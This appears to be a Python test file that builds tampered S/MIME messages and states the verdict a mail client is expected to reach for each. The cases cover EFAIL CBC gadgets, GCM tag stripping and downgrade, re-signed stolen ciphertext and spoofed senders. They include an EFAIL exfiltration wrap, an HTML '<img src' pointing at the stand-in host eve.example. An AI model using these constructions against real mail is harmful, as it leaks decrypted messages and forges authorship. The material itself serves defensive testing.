"""Encryption that is changed or taken for a proof: EFAIL's gadgets and wraps, envelopes that are re-labelled, signatures around ciphertext."""

import base64

from forge import Forged, content_info, signed_data
from layered import E, S, header, message, mime, protected
from spoofs import MALFORMED, NOT_VERIFIED, PAID, SEALED, UNSIGNED, UNSUPPORTED, VERIFIED, Family, multipart
from spoofs import message as headed

from secmail import der
from secmail.algorithms import AES256_CBC, AES256_GCM, AlgorithmIdentifier
from secmail.cms import AUTH_ENVELOPED_DATA, DATA, ENVELOPED_DATA, SIGNED_DATA

FAMILY = Family()
CBC, GCM = E(("bob",), "cbc", None), E(("bob",))
NOTHING = {"content__sha256": None}
LONG = b"Content-Type: text/plain\r\n\r\n" + b"Hello, this is a letter of several blocks. " * 20 + b"\r\n"


def structure_of(sealed: bytes) -> bytes:
    """The CMS structure of a message."""
    return base64.b64decode(sealed.partition(b"\r\n\r\n")[2])


def envelope(sealed: bytes) -> list[bytes]:
    """The members of an EnvelopedData or AuthEnvelopedData: version, recipient infos, encrypted content info, what follows."""
    outer = der.Reader(der.definite(structure_of(sealed))[0]).inside()
    outer.oid()
    return [each.der for each in outer.inside(der.context(0)).inside()]


def again(content_type: str, *members: bytes) -> bytes:
    return mime(content_info(content_type, der.sequence(*members)), smime_type="enveloped-data")


def encrypted_content(sealed: bytes) -> tuple[AlgorithmIdentifier, bytes]:
    info = der.read(envelope(sealed)[2])
    info.oid()
    algorithm = AlgorithmIdentifier.read(info)
    part = info.element()
    return algorithm, part.content if part.tag == der.context(0, constructed=False) else b"".join(each.content for each in part.inside())


def content_info_of(algorithm: AlgorithmIdentifier, encrypted: bytes, content_type=DATA) -> bytes:
    return der.sequence(der.oid(content_type), algorithm.der, der.tlv(der.context(0, constructed=False), encrypted))


def changed(sealed: bytes, change, kind=ENVELOPED_DATA) -> bytes:
    """The envelope with ``change(initialization vector, ciphertext)`` in it."""
    version, infos, _, *rest = envelope(sealed)
    algorithm, encrypted = encrypted_content(sealed)
    initialization_vector, encrypted = change(der.Reader(algorithm.parameters).octets(), encrypted)
    return again(kind, version, infos, content_info_of(AlgorithmIdentifier(algorithm.oid, der.octets(initialization_vector)), encrypted), *rest)


def xor(octets: bytes, mask: bytes) -> bytes:
    return bytes(a ^ b for a, b in zip(octets, mask.ljust(len(octets), b"\0"), strict=False))


# CBC gadgets

TURNED = xor(b"Content-Type: te", b"X-Ignored: hello")


@FAMILY.spoof("CBC content without a signature is nobody's", UNSIGNED)
def cbc_first_block_changed() -> bytes:
    return changed(message(CBC, content=LONG), lambda iv, encrypted: (xor(iv, xor(b"Content-Type: te", b"Content-Type: TE")), encrypted))


@FAMILY.spoof("CBC content is shown only if the signature inside holds", NOT_VERIFIED, **NOTHING)
def cbc_signed_content_changed() -> bytes:
    clear = headed(b"")  # the header of the message alone
    entity = b"Content-Type: multipart/signed; protocol=application/pkcs7-signature; micalg=sha-256; boundary=b\r\n\r\n--b\r\n"
    signature = b"\r\n--b\r\nContent-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    signature += base64.encodebytes(signed_data(Forged(content=LONG), detached=True)) + b"\r\n--b--\r\n"
    sealed = message(CBC, content=entity + LONG + signature, top=clear)
    middle = (len(entity) + 200) // 16 * 16
    return changed(sealed, lambda iv, encrypted: (iv, encrypted[:middle] + xor(encrypted[middle : middle + 16], b"\1") + encrypted[middle + 16 :]))


@FAMILY.spoof("a signature that was made unreadable leaves content unsigned", UNSIGNED)
def cbc_signature_hidden() -> bytes:
    """The first block names no layer any more, so what was signed is a text now."""
    return changed(message(CBC, S(), content=LONG), lambda iv, encrypted: (xor(iv, TURNED), encrypted))


@FAMILY.spoof("CBC content of an untrusted signer is withheld", NOT_VERIFIED, **NOTHING)
def cbc_signed_by_a_stranger() -> bytes:
    return message(CBC, S("mallory"))


@FAMILY.spoof("CBC content with certificates instead of a signature is withheld", UNSIGNED, **NOTHING)
def cbc_certificates_only() -> bytes:
    body = der.sequence(der.integer(1), der.set_of(()), der.sequence(der.oid(DATA), der.tlv(der.context(0), der.octets(PAID))), der.set_of(()))
    return message(CBC, content=mime(content_info(SIGNED_DATA, body)).removeprefix(header()))


@FAMILY.spoof("ciphertext that was cut is not opened", SEALED)
def cbc_cut() -> bytes:
    return changed(message(CBC, content=LONG), lambda iv, encrypted: (iv, encrypted[:-8]))


@FAMILY.spoof("padding is checked", SEALED)
def cbc_padding_changed() -> bytes:
    return changed(message(CBC, content=LONG), lambda iv, encrypted: (iv, encrypted[:-17] + xor(encrypted[-17:-16], b"\x55") + encrypted[-16:]))


@FAMILY.spoof("an initialization vector has the length of a block", MALFORMED)
def cbc_vector_of_another_length() -> bytes:
    return changed(message(CBC, content=LONG), lambda iv, encrypted: (iv[:8], encrypted))


# Wraps: EFAIL's direct exfiltration

LEAK = b'Content-Type: text/html\r\n\r\n<img src="http://eve.example/\r\n'


def sealed_part(*layers: S | E) -> bytes:
    return message(*layers, top=b"")


WRAPS = {
    "between_html": lambda: multipart(LEAK, sealed_part(CBC), b'Content-Type: text/html\r\n\r\n">\r\n'),
    "gcm_between_html": lambda: multipart(LEAK, sealed_part(GCM, S()), b'Content-Type: text/html\r\n\r\n">\r\n'),
    "beside_text": lambda: multipart(PAID, sealed_part(GCM, S())),
    "in_an_alternative": lambda: multipart(LEAK, sealed_part(GCM, S()), subtype="alternative"),
    "forwarded": lambda: b"Content-Type: message/rfc822\r\n\r\n" + header() + sealed_part(GCM, S()),
}
for name, build in WRAPS.items():
    FAMILY.add(f"wrap_{name}", "an encrypted part of something else is an attachment: it is not opened", UNSIGNED, lambda build=build: headed(build()), layers__0__kind="mime")

# Envelopes that are changed


@FAMILY.spoof("RFC 5083: an AuthEnvelopedData is authenticated", SEALED)
def gcm_content_changed() -> bytes:
    sealed = message(GCM, content=LONG)
    algorithm, encrypted = encrypted_content(sealed)
    version, infos, _, mac = envelope(sealed)
    return again(AUTH_ENVELOPED_DATA, version, infos, content_info_of(algorithm, xor(encrypted, b"\1")), mac)


def regrouped(change):
    """An AuthEnvelopedData taken apart and put together again in another way."""

    def build() -> bytes:
        sealed = message(GCM, S(), content=LONG)
        return change(*encrypted_content(sealed), *envelope(sealed))

    return build


CBC_OF_ZEROS = AlgorithmIdentifier(AES256_CBC.oid, der.octets(bytes(16)))
FAMILY.add("gcm_without_its_mac", "RFC 5083 section 2.1: the mac is there", MALFORMED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, r, e)))
FAMILY.add("gcm_with_a_short_mac", "RFC 5084 section 3.2: the tag has the length that the parameters say", SEALED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, r, e, der.octets(der.Reader(mac).octets()[:12]))))
FAMILY.add(
    "gcm_with_a_tiny_tag",
    "RFC 5084 section 3.2: a tag has at least 12 octets",
    MALFORMED,
    regrouped(
        lambda a, c, v, r, e, mac: again(
            AUTH_ENVELOPED_DATA,
            v,
            r,
            content_info_of(AlgorithmIdentifier(a.oid, der.sequence(der.octets(der.read(a.parameters).octets()), der.integer(4))), c),
            der.octets(der.Reader(mac).octets()[:4]),
        )
    ),
)
FAMILY.add("gcm_with_added_attributes", "RFC 5083 section 2.2: authenticated attributes are", SEALED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, r, e, der.tlv(der.context(1), der.sequence(der.oid("1.2.3"), der.set_of([b"\5\0"]))), mac)))
FAMILY.add("gcm_as_enveloped_data", "an algorithm fits the content type", UNSUPPORTED, regrouped(lambda a, c, v, r, e, mac: again(ENVELOPED_DATA, v, r, e)))
FAMILY.add("cbc_in_authenticated_data", "an algorithm fits the content type", UNSUPPORTED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, r, content_info_of(CBC_OF_ZEROS, c), mac)))
FAMILY.add(
    "gcm_turned_into_cbc",
    "what was sealed with GCM does not open as CBC",
    SEALED,
    regrouped(lambda a, c, v, r, e, mac: again(ENVELOPED_DATA, der.integer(2), r, content_info_of(CBC_OF_ZEROS, bytes(4096)))),
)
FAMILY.add("inner_type_changed", "nothing but id-data is in an envelope, because nothing protects its type", UNSUPPORTED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, r, content_info_of(a, c, SIGNED_DATA), mac)))
FAMILY.add("recipients_removed", "an envelope is for its recipients", SEALED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, der.set_of(()), e, mac)))
FAMILY.add("gcm_nonce_only", "GCM's parameters are those it was sealed with", SEALED, regrouped(lambda a, c, v, r, e, mac: again(AUTH_ENVELOPED_DATA, v, r, content_info_of(AlgorithmIdentifier(AES256_GCM.oid, der.sequence(der.octets(bytes(12)), der.integer(16))), c), mac)))

# Signatures around ciphertext

FAMILY.add("encrypted_alone", "encryption proves no author", UNSIGNED, lambda: message(GCM))
FAMILY.add("signed_around_the_ciphertext", "a signature around ciphertext proves no author of what is inside", NOT_VERIFIED, lambda: message(S(), GCM))
FAMILY.add("stolen_ciphertext", "whoever takes a signature off can put an own one around what he can't read", NOT_VERIFIED, lambda: message(S("carl"), GCM, top=header("carl@example.org")))
FAMILY.add("stolen_ciphertext_in_a_triple_wrap", "RFC 2634 section 1.1: the inner signature names the author", NOT_VERIFIED, lambda: message(S("carl"), GCM, S(), top=header("carl@example.org")), from__matches_signer=False)
FAMILY.add("signed_around_a_stranger", "the inner signature names the author", NOT_VERIFIED, lambda: message(S(), GCM, S("mallory")))
FAMILY.add("reencrypted_for_another", "surreptitious forwarding: who wrote is proven, not to whom", VERIFIED, lambda: message(GCM, S(), top=header(to="bob@example.org")))
FAMILY.add("outer_signature_wrong", "RFC 2634 section 1.1: a signature that is wrong speaks against the message", NOT_VERIFIED, lambda: mime(signed_data(Forged(content=message(GCM, S(), top=b""), attributes=WRONG))))
FAMILY.add("protected_from_of_another_inside_encryption", "RFC 9788 section 4.4: the protected From counts", NOT_VERIFIED, lambda: message(GCM, S(), content=protected("bob@example.org", "ceo@example.org")), from__matches_signer=False)
FAMILY.add("protected_from_without_a_signature", "encryption protects From and proves it of nobody", UNSIGNED, lambda: message(GCM, content=protected("bob@example.org")), headers__From__protection="encrypted-only")
FAMILY.add("protected_from_without_a_signature_of_another", "RFC 9788 section 4.4.2: a difference that no signature explains is pointed out", UNSIGNED, lambda: message(GCM, content=protected("bob@example.org", "ceo@example.org")), reason="the message is not signed; outside, the message names another sender")


WRONG = [der.sequence(der.oid("1.2.840.113549.1.9.3"), der.set_of([der.oid("1.2.3")]))]
